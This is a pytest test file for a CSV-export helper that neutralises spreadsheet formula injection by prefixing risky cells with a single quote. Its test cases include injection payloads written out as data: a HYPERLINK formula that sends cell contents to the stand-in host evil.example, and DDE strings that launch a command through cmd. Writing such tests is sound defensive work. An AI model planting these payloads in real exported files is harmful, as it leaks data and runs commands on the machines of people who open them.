"""CSV cells that a spreadsheet would run as formulas are neutralised (OWASP, CSV Injection)."""

from __future__ import annotations

import csv
import io

import pytest

from claimpay.csvcells import FormulaSafeWriter, formula_safe


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=",
        "-",
        "+-1",
        "-1e",
    ],
)
def test_a_cell_starting_like_a_formula_gets_a_single_quote(cell: str) -> None:
    assert formula_safe(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["-5", "+7", "-1.5", "-.5", "+2e10", "-3E-2", "Created", "a=b", " =1", "", "'=x"]
)
def test_signed_numbers_and_other_text_are_left_alone(cell: str) -> None:
    assert formula_safe(cell) == cell


@pytest.mark.parametrize("cell", [-5, 201, None, 1.5])
def test_values_that_are_not_text_are_left_alone(cell: object) -> None:
    assert formula_safe(cell) == cell


def test_the_writer_escapes_every_cell_and_still_quotes_as_csv() -> None:
    out = io.StringIO()
    writer = FormulaSafeWriter(out)
    writer.writerow(["=A1", -5, '@x,"y"', "ok"])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=A1", "-5", '\'@x,"y"', "ok"]]
